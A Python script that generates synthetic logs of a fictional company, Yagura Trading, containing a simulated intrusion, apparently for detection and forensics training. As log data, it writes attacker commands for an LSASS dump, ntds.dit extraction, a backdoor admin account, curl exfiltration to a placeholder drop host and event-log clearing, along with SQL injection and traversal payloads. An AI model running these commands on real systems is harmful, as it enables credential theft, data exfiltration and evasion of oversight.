#!/usr/bin/env python3
"""Writes demo/logs: three days of a company that does not exist, with an intrusion in them.

Everything here is invented: Yagura Trading (株式会社やぐら商事), its people, and the intruder. Addresses are from RFC 5737 and
RFC 1918, names from RFC 2606. The course of the intrusion follows what has been published about breaches of Japanese
companies: a stolen account comes in through the VPN, moves to a server that operates the directory, from there to the
directory itself, to the file server, and out with an archive; at the end the logs are cleared.

    python3 demo/make_logs.py [FOLDER]        (default: the folder `logs` beside this file)

The same script always writes the same records; only random.random() is used, whose sequence Python guarantees.
"""

import gzip
import json
import random
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path
from xml.sax.saxutils import escape

RANDOM = random.Random(20261020)
JST = timezone(timedelta(hours=9))
DOMAIN, REALM = "YAGURA-CORP", "yagura-corp.example"
SID = "S-1-5-21-1804289383-846930886-1681692777"
ADDRESS = {"ad01": "10.20.1.10", "ops01": "10.20.1.15", "fs01": "10.20.1.20", "web01": "10.20.9.30", "vpn01": "10.20.9.2"}
INTRUDER, DROP, LEASE = "203.0.113.77", "203.0.113.140", "10.20.200.23"
PEOPLE = {
    "sato.kenji": "営業部", "suzuki.mika": "営業部", "takahashi.ryo": "営業部", "ito.yui": "営業部", "watanabe.sho": "営業部",
    "yamamoto.aya": "官公庁案件", "nakamura.jun": "官公庁案件", "kobayashi.eri": "官公庁案件", "kato.daiki": "官公庁案件",
    "yoshida.nao": "経理部", "yamada.taro": "経理部", "sasaki.miho": "経理部", "matsumoto.kei": "人事部", "inoue.saki": "人事部",
    "kimura.yuta": "物流部", "hayashi.rin": "物流部", "shimizu.goro": "物流部", "mori.chika": "物流部",
    "abe.hiroshi": "情報システム部", "tanaka.koji": "情報システム部",
}
NUMBER = {name: 1105 + at for at, name in enumerate(list(PEOPLE) + ["adm-tanaka", "svc-backup", "svc-sql", "svc-print"])}


def pick(items):
    return items[int(RANDOM.random() * len(items))]


def between(low, high):
    return low + int(RANDOM.random() * (high - low + 1))


def at(day, clock):
    """A Japanese time of October 2026 as written on the clock, such as at(20, "23:41:07")."""
    hour, minute, second = (int(part) for part in clock.split(":"))
    return datetime(2026, 10, day, hour, minute, second, between(0, 999) * 1000, JST)


def office_time(day):
    return at(day, "08:30:00") + timedelta(seconds=RANDOM.random() * 10 * 3600)


def any_time(day):
    return at(day, "00:00:00") + timedelta(seconds=RANDOM.random() * 86_400)


def after(when, seconds):
    return when + timedelta(seconds=seconds)


def utc(when, digits=6):
    text = when.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")
    return text[: 20 + digits] + "Z"


def client_of(user):
    return f"10.20.30.{20 + list(PEOPLE).index(user)}"


def sid_of(user):
    return f"{SID}-{NUMBER[user]}"


# ---------------------------------------------------------------- Windows events

PROVIDERS = {
    "Security": ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}"),
    "System": ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}"),
    "Microsoft-Windows-Sysmon/Operational": ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
}
EVENTLOG = ("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}")
LOGS = {}


def windows(host, channel, when, event_id, **data):
    LOGS.setdefault((host, channel), []).append((when, event_id, data))


def security(host, when, event_id, **data):
    windows(host, "Security", when, event_id, **data)


def subject(user, prefix="Subject"):
    if user.endswith("$"):
        return {f"{prefix}UserSid": "S-1-5-18", f"{prefix}UserName": user, f"{prefix}DomainName": DOMAIN,
                f"{prefix}LogonId": "0x3e7"}
    return {f"{prefix}UserSid": sid_of(user), f"{prefix}UserName": user, f"{prefix}DomainName": DOMAIN,
            f"{prefix}LogonId": f"0x{between(0x100000, 0xffffff):x}"}


def logon(host, when, user, kind, address, workstation="-", package="Kerberos"):
    process = {10: "User32", 3: "Kerberos" if package == "Kerberos" else "NtLmSsp"}[kind]
    nobody = {"SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0"}
    by = subject(f"{host.upper()}$") if kind == 10 else nobody
    security(host, when, 4624, **by, **subject(user, "Target"), LogonType=kind, LogonProcessName=process,
             AuthenticationPackageName=package, WorkstationName=workstation, KeyLength=0 if package == "Kerberos" else 128,
             IpAddress=address, IpPort=between(49152, 65535), ElevatedToken="%%1842")


def failed(host, when, user, address, substatus="0xc000006a"):
    security(host, when, 4625, SubjectUserSid="S-1-0-0", SubjectUserName="-", SubjectDomainName="-", TargetUserSid="S-1-0-0",
             TargetUserName=user, TargetDomainName=DOMAIN, Status="0xc000006d", FailureReason="%%2313", SubStatus=substatus,
             LogonType=3, LogonProcessName="NtLmSsp ", AuthenticationPackageName="NTLM", WorkstationName="OPS01",
             KeyLength=0, IpAddress=address, IpPort=between(49152, 65535))


def ticket(when, user, service, address, kind="0x12", options="0x40810000"):
    security("ad01", when, 4769, TargetUserName=f"{user}@{REALM.upper()}", TargetDomainName=REALM.upper(), ServiceName=service,
             ServiceSid=f"{SID}-{between(1000, 1400)}", TicketOptions=options, TicketEncryptionType=kind,
             IpAddress=f"::ffff:{address}", IpPort=between(49152, 65535), Status="0x0")


def share(host, when, user, address, name, target=None, mask="0x120089", access="%%1538\n\t\t\t\t%%4416\n\t\t\t\t%%4423"):
    path = {"ADMIN$": "\\??\\C:\\Windows", "C$": "\\??\\C:\\", "IPC$": ""}.get(name, f"\\??\\D:\\share\\{name}")
    data = {**subject(user), "ObjectType": "File", "IpAddress": address, "IpPort": between(49152, 65535),
            "ShareName": f"\\\\*\\{name}", "ShareLocalPath": path}
    if target is None:
        security(host, when, 5140, **data, AccessMask="0x1", AccessList="%%4416")
    else:
        security(host, when, 5145, **data, RelativeTargetName=target, AccessMask=mask, AccessList=access, AccessReason="-")


def process_4688(host, when, user, image, command, parent):
    security(host, when, 4688, **subject(user), NewProcessId=f"0x{between(0x400, 0x3fff):x}", NewProcessName=image,
             TokenElevationType="%%1936", ProcessId=f"0x{between(0x400, 0x3fff):x}", CommandLine=command,
             ParentProcessName=parent, MandatoryLabel="S-1-16-12288")


def service(host, when, name, path, account="LocalSystem", start="demand start"):
    windows(host, "System", when, 7045, ServiceName=name, ImagePath=path, ServiceType="user mode service", StartType=start,
            AccountName=account)


def sysmon(when, event_id, image, **data):
    """Sysmon runs on ops01 only."""
    who = "Source" if event_id == 10 else ""
    guid = f"5f0c1d2e-{between(0x1000, 0xffff):04x}-6a16-0000-00{between(0x100000, 0xffffff):06x}0000"
    windows("ops01", "Microsoft-Windows-Sysmon/Operational", when, event_id, RuleName="-",
            UtcTime=utc(when, 3)[:-1].replace("T", " "), **{f"{who}ProcessGuid": "{" + guid + "}",
            f"{who}ProcessId": between(600, 9800), f"{who}Image": image}, **data)


def sysmon_process(when, user, image, command, parent="C:\\Windows\\System32\\cmd.exe", original=None):
    sysmon(when, 1, image, CommandLine=command, CurrentDirectory="C:\\Windows\\system32\\", User=user,
           OriginalFileName=original or image.rsplit("\\", 1)[-1], ParentImage=parent, ParentCommandLine=parent,
           IntegrityLevel="System" if user.startswith("NT ") else "High",
           Hashes="SHA256=" + "".join(f"{between(0, 255):02X}" for _ in range(32)))


def cleared(host, when, user, channel):
    what = {"SubjectUserSid": sid_of(user), "SubjectUserName": user, "SubjectDomainName": DOMAIN}
    if channel == "Security":
        windows(host, "Security", when, 1102, _user_data="LogFileCleared", **what, SubjectLogonId="0x9d41f0")
    else:
        windows(host, "System", when, 104, _user_data="LogFileCleared", **what, Channel=channel, BackupPath="")


# ---------------------------------------------------------------- three ordinary days

def ordinary_windows():
    folders = ["見積", "契約", "請求", "議事録", "納品", "週報"]
    for day in (19, 20, 21):
        for user, department in PEOPLE.items():
            address, morning = client_of(user), at(day, "08:30:00") + timedelta(seconds=RANDOM.random() * 3000)
            security("ad01", morning, 4768, TargetUserName=user, TargetDomainName=DOMAIN, TargetSid=sid_of(user),
                     ServiceName="krbtgt", TicketOptions="0x40810010", Status="0x0", TicketEncryptionType="0x12", PreAuthType="2",
                     IpAddress=f"::ffff:{address}", IpPort=between(49152, 65535))
            logon("fs01", after(morning, 4), user, 3, address)
            share("fs01", after(morning, 5), user, address, department)
            for _ in range(between(14, 24)):
                ticket(office_time(day), user, pick(["FS01$", "AD01$", "svc-sql", "svc-print"]), address)
            for _ in range(between(10, 22)):
                name = f"2026年度\\{pick(folders)}\\{pick(folders)}_{between(1, 160):03d}.{pick(['xlsx', 'docx', 'pdf'])}"
                share("fs01", office_time(day), user, address, department, name)
            for _ in range(between(6, 12)):
                logon("ad01", office_time(day), user, 3, address)
            if RANDOM.random() < 0.25:
                failed("ad01", after(morning, -20), user, address)
        for number in range(40):
            machine = f"PC{number:03d}$"
            for _ in range(between(5, 9)):
                ticket(any_time(day), machine, pick(["FS01$", "AD01$"]), f"10.20.30.{20 + number}")
        # The backup of the night: few files, each large, from the backup server.
        for number in range(60):
            when = after(at(day, "02:00:00"), number * 55)
            share("fs01", when, "svc-backup", "10.20.1.40", pick(list(PEOPLE.values())), f"backup\\set{day}_{number:03d}.vhdx")
        for host in ("ad01", "fs01", "ops01"):
            for _ in range(60):
                image = pick(["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe",
                              "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\System32\\conhost.exe"])
                process_4688(host, any_time(day), f"{host.upper()}$", image, f"{image} -k netsvcs", "C:\\Windows\\System32\\services.exe")
            for _ in range(25):
                windows(host, "System", any_time(day), 7036, param1=pick(["Windows Update", "Background Intelligent Transfer Service", "WinRM"]),
                        param2=pick(["running", "stopped"]))
        for _ in range(90):
            image = pick(["C:\\Windows\\System32\\svchost.exe", "C:\\Program Files\\Yagura Agent\\inventory.exe", "C:\\Windows\\System32\\gpupdate.exe",
                          "C:\\Windows\\System32\\backgroundTaskHost.exe"])
            sysmon_process(any_time(day), "NT AUTHORITY\\SYSTEM", image, f'"{image}"', "C:\\Windows\\System32\\services.exe")
        for _ in range(40):
            sysmon(any_time(day), 3, "C:\\Windows\\System32\\svchost.exe", User="NT AUTHORITY\\NETWORK SERVICE", Protocol="tcp", Initiated="true",
                   SourceIp=ADDRESS["ops01"], SourcePort=between(49152, 65535), DestinationIp=ADDRESS["ad01"], DestinationPort=pick([135, 389, 445]))
    # The administrator's own work, by day and from his own desk.
    desk = client_of("tanaka.koji")
    logon("ops01", at(19, "10:05:12"), "adm-tanaka", 10, desk)
    sysmon_process(at(19, "10:09:40"), f"{DOMAIN}\\adm-tanaka", "C:\\Windows\\System32\\mmc.exe", "mmc.exe dsa.msc", "C:\\Windows\\explorer.exe")
    service("fs01", at(19, "10:40:00"), "Yagura Agent", '"C:\\Program Files\\Yagura Agent\\inventory.exe" --service', start="auto start")
    security("ad01", at(19, "11:12:30"), 4724, **subject("adm-tanaka"), TargetUserName="hayashi.rin", TargetDomainName=DOMAIN, TargetSid=sid_of("hayashi.rin"))


# ---------------------------------------------------------------- the intrusion, in the night of 20 October

def intrusion():
    stolen, admin, backup = "sato.kenji", "adm-tanaka", "svc-backup"
    cmd = "C:\\Windows\\System32\\cmd.exe"

    def run(clock, command, image=None, user=f"{DOMAIN}\\{stolen}", day=20, **more):
        image = image or "C:\\Windows\\System32\\" + command.split()[0].removesuffix(".exe") + ".exe"
        sysmon_process(at(day, clock), user, image, command, **more)

    # From the VPN to the server from which the directory is operated (it is about to be retired, and nobody has tidied up
    # who may log on), and a look around.
    share("ops01", at(20, "23:45:52"), stolen, LEASE, "C$")
    logon("ops01", at(20, "23:47:31"), stolen, 10, LEASE, "DESKTOP-7QK2M")
    run("23:49:02", "whoami /all", original="whoami.exe")
    run("23:49:40", 'net group "Domain Admins" /domain', original="net.exe")
    run("23:50:15", f"nltest /dclist:{REALM}", original="nltestrk.exe")
    run("23:52:48", 'C:\\Users\\Public\\a.exe -f "(objectcategory=computer)" -csv', "C:\\Users\\Public\\a.exe", original="AdFind.exe")
    for at_second, account in enumerate(list(PEOPLE)[1:15]):
        failed("ad01", after(at(20, "23:56:00"), at_second * 9), account, ADDRESS["ops01"])
    for at_second, name in enumerate(["svc-sql", "svc-backup", "svc-print", "svc-erp", "svc-mail", "svc-scan"]):
        ticket(after(at(20, "23:59:10"), at_second * 2), stolen, name, ADDRESS["ops01"], kind="0x17")
    # The administrator's password is still in the server's memory.
    run("00:08:20", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 696 C:\\Windows\\Temp\\lsass.dmp full", day=21, original="RUNDLL32.EXE")
    sysmon(at(21, "00:08:20"), 10, "C:\\Windows\\System32\\rundll32.exe",
           TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1fffff", CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\comsvcs.dll+2a0f1")
    sysmon(at(21, "00:08:21"), 11, "C:\\Windows\\System32\\rundll32.exe", TargetFilename="C:\\Windows\\Temp\\lsass.dmp", User=f"{DOMAIN}\\{stolen}")
    security("ops01", at(21, "00:21:05"), 4648, **subject(stolen), TargetUserName=admin, TargetDomainName=DOMAIN, TargetServerName="ad01",
             ProcessName=cmd, IpAddress="-", IpPort="-")
    # To the directory: a service whose command is run by a shell, its output on the administrative share.
    share("ad01", at(21, "00:21:44"), admin, ADDRESS["ops01"], "ADMIN$")
    logon("ad01", at(21, "00:21:43"), admin, 3, ADDRESS["ops01"], "OPS01", "NTLM")
    share("ad01", at(21, "00:21:45"), admin, ADDRESS["ops01"], "IPC$", "svcctl", "0x12019f")
    path = "%COMSPEC% /Q /c echo vssadmin create shadow /for=C: ^> \\\\127.0.0.1\\ADMIN$\\__out 2^>^&1 > %TEMP%\\x.bat & %COMSPEC% /Q /c %TEMP%\\x.bat"
    service("ad01", at(21, "00:21:50"), "KwPzTsLm", path)
    security("ad01", at(21, "00:21:50"), 4697, **subject(admin), ServiceName="KwPzTsLm", ServiceFileName=path, ServiceType="0x10",
             ServiceStartType="3", ServiceAccount="LocalSystem")
    system = "C:\\Windows\\System32\\"
    for clock, image, command in [
        ("00:21:51", cmd, "C:\\Windows\\system32\\cmd.exe /Q /c %TEMP%\\x.bat 1> \\\\127.0.0.1\\ADMIN$\\__out 2>&1"),
        ("00:21:52", system + "vssadmin.exe", "vssadmin create shadow /for=C:"),
        ("00:23:10", cmd, "cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\n.tmp"),
        ("00:23:31", system + "reg.exe", "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\s.tmp"),
        ("00:25:02", system + "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    ]:
        process_4688("ad01", at(21, clock), "AD01$", image, command, cmd)
    # DCSync: the directory is asked for its passwords by somebody who is no domain controller.
    for number, right in enumerate(["1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"]):
        security("ad01", after(at(21, "00:31:18"), number), 4662, **subject(admin), ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                 ObjectName="%{7d2a1c60-5c0f-4e8e-9b7f-2f6d1f0a9a11}", OperationType="Object Access", AccessMask="0x100",
                 Properties=f"%%7688\n\t\t{{{right}}}\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}")
    # A way back in.
    security("ad01", at(21, "00:44:00"), 4720, **subject(admin), TargetUserName="svc-scan2", TargetDomainName=DOMAIN, TargetSid=f"{SID}-1188")
    security("ad01", at(21, "00:44:25"), 4728, **subject(admin), MemberName="CN=svc-scan2,CN=Users,DC=yagura-corp,DC=example", MemberSid=f"{SID}-1188",
             TargetUserName="Domain Admins", TargetDomainName=DOMAIN, TargetSid=f"{SID}-512")
    # The file server: its tools first, then the documents, by the backup account that may read all of them.
    logon("fs01", at(21, "01:02:10"), admin, 3, ADDRESS["ops01"], "OPS01", "NTLM")
    share("fs01", at(21, "01:02:11"), admin, ADDRESS["ops01"], "ADMIN$")
    share("fs01", at(21, "01:02:14"), admin, ADDRESS["ops01"], "ADMIN$", "PSEXESVC.exe", "0x17019f", "%%1537\n\t\t\t\t%%4416\n\t\t\t\t%%4417")
    share("fs01", at(21, "01:02:15"), admin, ADDRESS["ops01"], "IPC$", "svcctl", "0x12019f")
    service("fs01", at(21, "01:02:16"), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    share("fs01", at(21, "01:02:18"), admin, ADDRESS["ops01"], "IPC$", "PSEXESVC-OPS01-4412-stdin", "0x12019f")
    process_4688("fs01", at(21, "01:02:19"), "FS01$", cmd, '"cmd.exe"', "C:\\Windows\\PSEXESVC.exe")
    logon("fs01", at(21, "01:10:02"), backup, 3, ADDRESS["ops01"], "OPS01", "NTLM")
    share("fs01", at(21, "01:10:03"), backup, ADDRESS["ops01"], "官公庁案件")
    share("fs01", at(21, "01:10:40"), backup, ADDRESS["ops01"], "情報システム部", "運用\\サーバパスワード一覧.xlsx")
    for number in range(640):
        name = f"{pick(['2024年度', '2025年度', '2026年度'])}\\{pick(['防災設備更新', '庁舎ネットワーク', '通信局舎工事'])}\\図面_{number:04d}.pdf"
        share("fs01", after(at(21, "01:11:00"), number * 0.75), backup, ADDRESS["ops01"], "官公庁案件", name)
    run("01:24:30", "robocopy \\\\fs01\\官公庁案件 C:\\ProgramData\\w /s /maxage:900 /r:0", user=f"{DOMAIN}\\{backup}", day=21, original="robocopy.exe")
    run("01:41:00", "C:\\ProgramData\\r.exe a -r -m5 -v500m -hpTsuki2026 C:\\ProgramData\\w.rar C:\\ProgramData\\w", "C:\\ProgramData\\r.exe",
        user=f"{DOMAIN}\\{backup}", day=21, original="WinRAR.exe")
    run("02:03:12", f"curl.exe -k -T C:\\ProgramData\\w.part01.rar https://{DROP}/u/", "C:\\Windows\\System32\\curl.exe", user=f"{DOMAIN}\\{backup}", day=21)
    sysmon(at(21, "02:03:13"), 3, "C:\\Windows\\System32\\curl.exe", User=f"{DOMAIN}\\{backup}", Protocol="tcp", Initiated="true",
           SourceIp=ADDRESS["ops01"], SourcePort=51877, DestinationIp=DROP, DestinationPort=443)
    # Traces removed.
    run("02:40:51", "wevtutil cl Security", user=f"{DOMAIN}\\{admin}", day=21, original="wevtutil.exe")
    cleared("ops01", at(21, "02:40:52"), admin, "Security")
    cleared("ops01", at(21, "02:40:58"), admin, "System")
    process_4688("fs01", at(21, "02:43:10"), "FS01$", system + "wevtutil.exe", "wevtutil cl System", cmd)
    cleared("fs01", at(21, "02:43:11"), admin, "System")


# ---------------------------------------------------------------- how Windows events are written

def numbered():
    for (host, channel), events in sorted(LOGS.items()):
        for number, (when, event_id, data) in enumerate(sorted(events, key=lambda event: event[0])):
            provider, guid = EVENTLOG if "_user_data" in data else PROVIDERS[channel]
            yield host, channel, 412_000 + number, when, event_id, provider, guid, dict(data)


def winlogbeat(host, channel, record, when, event_id, provider, guid, data):
    user_data = data.pop("_user_data", None)
    fields = {name: str(value) for name, value in data.items()}
    where = {"user_data": {"xml_name": user_data, **fields}} if user_data else {"event_data": fields}
    return {"@timestamp": utc(when, 3), "event": {"code": str(event_id), "provider": provider, "kind": "event"},
            "winlog": {"provider_name": provider, "provider_guid": guid, "channel": channel, "event_id": event_id,
                       "computer_name": f"{host}.{REALM}", "record_id": record, **where}}


def evtx_dump(host, channel, record, when, event_id, provider, guid, data):
    user_data = data.pop("_user_data", None)
    body = {"UserData": {user_data: data}} if user_data else {"EventData": data}
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": provider, "Guid": guid}}, "EventID": event_id, "Level": 0,
                                 "TimeCreated": {"#attributes": {"SystemTime": utc(when)}}, "EventRecordID": record,
                                 "Channel": channel, "Computer": f"{host}.{REALM}"}, **body}}


def event_xml(host, channel, record, when, event_id, provider, guid, data):
    user_data = data.pop("_user_data", None)
    if user_data:
        leaves = "".join(f"<{name}>{escape(str(value))}</{name}>" for name, value in data.items())
        body = f"<UserData><{user_data} xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'>{leaves}</{user_data}></UserData>"
    else:
        leaves = "".join(f"<Data Name='{name}'>{escape(str(value))}</Data>" for name, value in data.items())
        body = f"<EventData>{leaves}</EventData>"
    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='{provider}' Guid='{guid}'/>"
            f"<EventID>{event_id}</EventID><Level>4</Level><TimeCreated SystemTime='{utc(when)}'/><EventRecordID>{record}</EventRecordID>"
            f"<Channel>{channel}</Channel><Computer>{host}.{REALM}</Computer></System>{body}</Event>")


# ---------------------------------------------------------------- Linux, the VPN, the web

def syslog_3164(lines, when, program, message, pid=None):
    tag = f"{program}[{pid}]" if pid else program
    lines.append((when, f"{when.strftime('%b')} {when.day:2d} {when.strftime('%H:%M:%S')} web01 {tag}: {message}"))


def auth_log():
    lines = []
    for day in (19, 20, 21):
        for hour in range(24):
            when = at(day, f"{hour:02d}:17:01")
            syslog_3164(lines, when, "CRON", "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)", 2000 + hour)
            syslog_3164(lines, when, "CRON", "pam_unix(cron:session): session closed for user root", 2000 + hour)
        for _ in range(12):
            when, pid, user = office_time(day), between(3000, 30000), pick(["abe", "tanaka"])
            port, address = between(40000, 65000), client_of({"abe": "abe.hiroshi", "tanaka": "tanaka.koji"}[user])
            syslog_3164(lines, when, "sshd", f"Accepted publickey for {user} from {address} port {port} ssh2: ED25519 SHA256:k3J0b1n8pQ", pid)
            syslog_3164(lines, after(when, 0.2), "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)", pid)
            syslog_3164(lines, after(when, 60), "sudo", f"{user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx")
            syslog_3164(lines, after(when, 900), "sshd", f"Disconnected from user {user} {address} port {port}", pid)
        # What every host on the Internet sees.
        guesses = ["admin", "oracle", "test", "postgres", "ubuntu", "ftpuser", "git", "deploy", "minecraft", "pi", "hadoop", "user"]
        for number, user in enumerate(guesses):
            when, pid = after(at(day, "04:12:00"), number * 7), between(3000, 30000)
            syslog_3164(lines, when, "sshd", f"Failed password for invalid user {user} from 198.51.100.23 port {between(40000, 65000)} ssh2", pid)
    syslog_3164(lines, at(20, "15:20:10"), "sudo", "    mori : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/mori ; USER=root ; COMMAND=/usr/bin/vi /etc/nginx/nginx.conf")
    return [line for _, line in sorted(lines, key=lambda line: line[0])]


def vpn():
    system, sessions = [], []

    def message(when, program, pid, text, severity=6):
        stamp = when.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+09:00"
        system.append((when, f"<{10 * 8 + severity}>1 {stamp} vpn01 {program} {pid} - - {text}"))

    def session(when, action, user, source, **more):
        record = {"time": when.isoformat(timespec="milliseconds"), "host": "vpn01", "action": action, "user": user, "src_ip": source, **more}
        sessions.append((when, json.dumps(record, ensure_ascii=False)))

    def visit(day, clock, user, source, lease, hours, client):
        when, number = at(day, clock), f"S{between(100000, 999999)}"
        session(when, "login", user, source, outcome="success", assigned_ip=lease, session=number, client=client)
        end = after(when, hours * 3600)
        session(end, "logout", user, source, session=number, bytes_in=between(10**6, 10**8), bytes_out=between(10**7, 10**9), duration=int(hours * 3600))
        message(when, "vpnd", 811, f"session {number} opened for {user}")
        message(end, "vpnd", 811, f"session {number} closed for {user}")

    managed = "YaguraConnect 5.2 (Windows 11)"
    for day in (19, 20, 21):
        for number, user in enumerate(list(PEOPLE)[:10]):
            visit(day, f"{8 + number % 3:02d}:{between(10, 50)}:{between(10, 50)}", user, f"198.51.100.{101 + number}", f"10.20.200.{40 + number}", between(3, 8), managed)
        user = pick(list(PEOPLE))
        session(at(day, "12:40:11"), "login", user, "198.51.100.120", outcome="failure", reason="bad_password", client=managed)
        for hour in range(24):
            message(at(day, f"{hour:02d}:05:00"), "CRON", 9000 + hour, "(root) CMD (/usr/local/sbin/rotate-sessions)")
            message(at(day, f"{hour:02d}:30:00"), "sshd", 12000 + hour, f"Accepted publickey for monitor from 10.20.1.50 port {between(40000, 65000)} ssh2: ED25519 SHA256:m0n1t0r")
            for minute in (5, 20, 35, 50):
                message(at(day, f"{hour:02d}:{minute:02d}:30"), "vpnd", 811, f"keepalive: {between(2, 11)} sessions, load 0.{between(10, 60)}")
    # The stolen account, by night, with another client, tried first from other exits.
    session(at(20, "23:20:41"), "login", "sato.kenji", "203.0.113.21", outcome="success", session="S771001", client="OpenConnect VPN Agent v9.12")
    session(at(20, "23:29:15"), "login", "sato.kenji", "203.0.113.54", outcome="success", session="S771002", client="OpenConnect VPN Agent v9.12")
    visit(20, "23:41:07", "sato.kenji", INTRUDER, LEASE, 3.4, "OpenConnect VPN Agent v9.12")
    ordered = [[line for _, line in sorted(part, key=lambda line: line[0])] for part in (system, sessions)]
    return ordered[0], ordered[1]


def web():
    lines = []
    browsers = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36",
                "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1"]

    def request(when, address, method, stem, query, status, size, agent, decoded=None):
        uri = stem + ("?" + query if query else "")
        lines.append((when, json.dumps({
            "time": when.isoformat(timespec="milliseconds"), "host": "web01", "cs-host": "www." + REALM, "c-ip": address, "cs-method": method,
            "cs-uri": uri, "cs-uri-stem": stem, "cs-uri-query": query, "cs-uri-decoded": decoded or uri, "sc-status": status, "sc-bytes": size,
            "time-taken": between(2, 180), "c-useragent": agent}, ensure_ascii=False)))

    pages = ["/", "/news", "/company", "/products/pump", "/products/valve", "/recruit", "/contact", "/css/site.css", "/js/site.js", "/img/logo.png"]
    for day in (19, 20, 21):
        for _ in range(420):
            address = f"192.0.2.{between(20, 240)}"
            request(any_time(day), address, "GET", pick(pages), "", pick([200, 200, 200, 304, 404]), between(400, 60_000), pick(browsers))
    scanner = "198.51.100.61"
    for number in range(130):
        request(after(at(20, "03:10:00"), number * 1.5), scanner, "GET", f"/{pick(['old', 'backup', 'test', 'admin', 'api'])}/{number:03d}.php", "", 404, 512,
                "Mozilla/5.0 (compatible; Nuclei - Open-source project)" if number < 5 else browsers[0])
    for number in range(8):
        request(after(at(20, "03:15:00"), number * 4), scanner, "GET", "/products/search", f"q=pump%27%20UNION%20SELECT%20{number},2,3--%20", 500, 733, "sqlmap/1.9",
                f"/products/search?q=pump' UNION SELECT {number},2,3-- ")
        request(after(at(20, "03:16:00"), number * 4), scanner, "GET", "/download", f"file={'..%2f' * (number + 2)}etc%2fpasswd", 404, 512, "sqlmap/1.9",
                f"/download?file={'../' * (number + 2)}etc/passwd")
    for number in range(60):
        request(after(at(21, "05:01:00"), number * 3), "198.51.100.88", "POST", "/members/login", "", 401, 880, browsers[0])
    written = [line for _, line in sorted(lines, key=lambda line: line[0])]
    # The disk was full for a moment: one line is cut, as happens.
    written.insert(900, written[900][:140])
    return written


# ---------------------------------------------------------------- writing

def write(folder, name, lines, packed=False):
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    content = ("\n".join(lines) + "\n").encode()
    if packed:
        with gzip.GzipFile(path, "wb", compresslevel=9, mtime=0) as file:
            file.write(content)
    else:
        path.write_bytes(content)
    return len(lines)


def main():
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "logs"
    ordinary_windows()
    intrusion()
    events = list(numbered())

    def of(host, channel):
        return [event for event in events if (event[0], event[1]) == (host, channel)]

    def as_json(make, chosen):
        return [json.dumps(make(*event), ensure_ascii=False, separators=(",", ":")) for event in chosen]

    def left_after_clearing(chosen):
        """What an export finds in a log that was cleared; what had been forwarded before is safe elsewhere."""
        first = max(number for number, event in enumerate(chosen) if event[4] in (104, 1102))
        return chosen[first:]

    sysmon_xml = [event_xml(*event) for event in of("ops01", "Microsoft-Windows-Sysmon/Operational")]
    system, sessions = vpn()
    counts = [
        write(folder, "ad01/security.winlogbeat.jsonl.gz", as_json(winlogbeat, of("ad01", "Security")), packed=True),
        write(folder, "ad01/system.winlogbeat.jsonl", as_json(winlogbeat, of("ad01", "System"))),
        write(folder, "fs01/Security.evtx.jsonl.gz", as_json(evtx_dump, of("fs01", "Security")), packed=True),
        write(folder, "fs01/system.winlogbeat.jsonl", as_json(winlogbeat, of("fs01", "System"))),
        write(folder, "ops01/security.winlogbeat.jsonl", as_json(winlogbeat, of("ops01", "Security"))),
        write(folder, "ops01/System.xml", [event_xml(*event) for event in left_after_clearing(of("ops01", "System"))]),
        write(folder, "ops01/Sysmon.xml", ["<?xml version='1.0' encoding='utf-8'?>", "<Events>", *sysmon_xml, "</Events>"]) - 3,
        write(folder, "vpn01/messages.log", system),
        write(folder, "vpn01/sessions.ndjson", sessions),
        write(folder, "web01/auth.log", auth_log()),
        write(folder, "web01/access.ndjson", web()),
    ]
    size = sum(path.stat().st_size for path in folder.rglob("*") if path.is_file())
    print(f"{sum(counts)} records in {len(counts)} files, {size / 2**20:.1f} MiB, in {folder}")


if __name__ == "__main__":
    main()
